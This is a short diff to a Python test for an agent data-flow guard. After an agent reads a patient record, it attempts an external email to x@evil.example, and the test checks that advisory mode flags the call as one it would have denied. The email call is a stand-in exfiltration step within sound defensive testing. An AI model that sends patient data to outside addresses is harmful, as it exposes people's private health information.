@@ -105,7 +105,7 @@ async def test_advisory_forwards_and_marks(advisory: EnclaveProcess, mode: str) 
         agent(stack.url, mode=mode) as client,
     ):
         await client.call_tool("ehr.read_patient_record", {"patient_id": "p-1"})  # taints the session (phi)
-        result = await client.call_tool("email.send_external", {"to": "x@evil.example", "body": "hi"})
+        result = await client.call_tool("email.send_external", {"to": ["x@evil.example"], "body": "hi"})
         assert result.meta is not None and result.meta["cmcp"]["would_have_denied"] is True
         assert result.meta["cmcp"]["mode"] == "advisory"
         assert stack.upstream.counter["email.send_external"] == 1
